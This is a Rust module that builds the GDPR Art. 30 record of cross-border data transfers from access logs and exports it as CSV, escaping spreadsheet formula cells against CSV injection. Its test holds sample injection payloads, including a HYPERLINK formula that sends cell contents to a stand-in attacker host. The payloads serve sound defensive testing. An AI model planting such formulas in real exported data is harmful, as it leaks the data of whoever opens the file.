//! The record of transfers that GDPR Art. 30(1)(e) asks a controller to
//! keep, from the logs: as rows (JSON) and as CSV a spreadsheet opens
//! safely.

use serde::Serialize;

use crate::{Error, Monitor};

/// One line of the Art. 30 record of transfers.
#[derive(Clone, Debug, Serialize)]
pub struct Art30Transfer {
    /// When.
    pub time: String,
    /// The exporting region and its jurisdiction.
    pub region: String,
    /// Jurisdiction the data is in.
    pub from_jurisdiction: String,
    /// The third country or jurisdiction it went to.
    pub to_jurisdiction: String,
    /// The recipient (principal) and its organisation.
    pub recipient: String,
    /// Organisation.
    pub organisation: String,
    /// Purpose of the processing.
    pub purpose: String,
    /// Categories of personal data (datasets).
    pub categories: String,
    /// Fields and how each left.
    pub safeguards: String,
    /// Number of data subjects.
    pub subjects: u64,
    /// Transfer tool named.
    pub legal_basis: String,
    /// Its legal reference.
    pub legal_reference: String,
    /// The log entry that records it: `region#index`.
    pub log_entry: String,
}

impl Monitor {
    /// The Art. 30(1)(e) record: every allowed transfer, from the logs.
    pub fn art30(&self) -> Result<Vec<Art30Transfer>, Error> {
        Ok(self
            .state
            .accesses()?
            .into_iter()
            .filter(|(_, a)| a.allowed && a.action == "transfer")
            .map(|(region, a)| Art30Transfer {
                time: a.time,
                log_entry: format!("{region}#{}", a.index),
                region,
                from_jurisdiction: a.origin_jurisdiction,
                to_jurisdiction: a.destination,
                recipient: a.principal,
                organisation: a.organisation,
                purpose: a.purpose,
                categories: a.datasets.join(", "),
                safeguards: a.fields.join(", "),
                subjects: a.subject_count,
                legal_basis: a.legal_basis.unwrap_or_default(),
                legal_reference: a.legal_reference.unwrap_or_default(),
            })
            .collect())
    }

    /// The Art. 30 record as CSV (RFC 4180, a header line first), safe to
    /// open in a spreadsheet: see [`art30_to_csv`].
    pub fn art30_csv(&self) -> Result<String, Error> {
        art30_to_csv(self.art30()?)
    }
}

/// Art. 30 rows as CSV (RFC 4180, a header line first). Purposes, names
/// and legal bases come from the logs, so from callers: a cell a
/// spreadsheet would take for a formula (starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return) is prefixed with `'` (OWASP's rule against
/// CSV injection) and so shown as text.
pub fn art30_to_csv(rows: Vec<Art30Transfer>) -> Result<String, Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for t in rows {
        w.serialize(t.neutralised())
            .map_err(|e| Error::State(e.to_string()))?;
    }
    let bytes = w.into_inner().map_err(|e| Error::State(e.to_string()))?;
    String::from_utf8(bytes).map_err(|e| Error::State(e.to_string()))
}

/// A CSV cell that no spreadsheet evaluates.
fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

impl Art30Transfer {
    /// Every text cell neutralised.
    fn neutralised(self) -> Self {
        Art30Transfer {
            time: neutralise(self.time),
            region: neutralise(self.region),
            from_jurisdiction: neutralise(self.from_jurisdiction),
            to_jurisdiction: neutralise(self.to_jurisdiction),
            recipient: neutralise(self.recipient),
            organisation: neutralise(self.organisation),
            purpose: neutralise(self.purpose),
            categories: neutralise(self.categories),
            safeguards: neutralise(self.safeguards),
            subjects: self.subjects,
            legal_basis: neutralise(self.legal_basis),
            legal_reference: neutralise(self.legal_reference),
            log_entry: neutralise(self.log_entry),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(text: &str) -> Art30Transfer {
        let t = text.to_owned();
        Art30Transfer {
            time: t.clone(),
            region: t.clone(),
            from_jurisdiction: t.clone(),
            to_jurisdiction: t.clone(),
            recipient: t.clone(),
            organisation: t.clone(),
            purpose: t.clone(),
            categories: t.clone(),
            safeguards: t.clone(),
            subjects: 3,
            legal_basis: t.clone(),
            legal_reference: t.clone(),
            log_entry: t,
        }
    }

    #[test]
    fn art30_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let csv = art30_to_csv(vec![row(formula)]).unwrap();
            let mut r = csv::Reader::from_reader(csv.as_bytes());
            let record = r.records().next().unwrap().unwrap();
            for (i, cell) in record.iter().enumerate() {
                if cell == "3" {
                    continue; // subjects, a number
                }
                assert_eq!(cell, format!("'{formula}"), "column {i} of {csv:?}");
            }
        }
        // Ordinary cells are left as they are.
        let csv = art30_to_csv(vec![row("reco-training")]).unwrap();
        assert!(
            csv.lines().nth(1).unwrap().starts_with("reco-training,"),
            "{csv}"
        );
        assert!(!csv.contains('\''), "{csv}");
    }
}
